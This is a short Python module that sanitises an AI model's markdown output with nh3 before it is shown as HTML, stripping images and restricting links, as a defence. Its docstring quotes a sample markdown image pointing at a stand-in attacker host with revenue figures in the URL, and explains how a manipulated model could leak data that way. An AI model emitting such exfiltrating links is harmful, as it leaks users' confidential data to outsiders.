"""A model's markdown as HTML that loads nothing from elsewhere and whose links open apart from the app.

A model can be talked into writing `![x](https://attacker.example/?revenue=...)`: an image the browser would fetch at
once, telling a stranger the figures in its address. So images are dropped, links open in a new tab without the app's
page as opener or referrer, and only web and mail links are kept. nh3 (the Ammonia sanitiser) does this in the server,
which also replaces the browser's DOMPurify for these elements (DOMPurify would drop `target`).
"""
import nh3
from pygments.token import STANDARD_TYPES

_TAGS = nh3.ALLOWED_TAGS - {'img', 'area', 'map'}
_ATTRIBUTES = {**nh3.ALLOWED_ATTRIBUTES,  # markdown2 aligns table cells by style (text-align alone is kept)
               **{cell: nh3.ALLOWED_ATTRIBUTES[cell] | {'style'} for cell in ('th', 'td')}}
_CLASSES = {'div': {'codehilite'}, 'span': set(STANDARD_TYPES.values())}  # code highlighting, nothing else


def clean(html: str) -> str:
    return nh3.clean(html, tags=_TAGS, attributes=_ATTRIBUTES, allowed_classes=_CLASSES,
                     url_schemes={'http', 'https', 'mailto'}, link_rel='noopener noreferrer',
                     set_tag_attribute_values={'a': {'target': '_blank'}}, filter_style_properties={'text-align'})
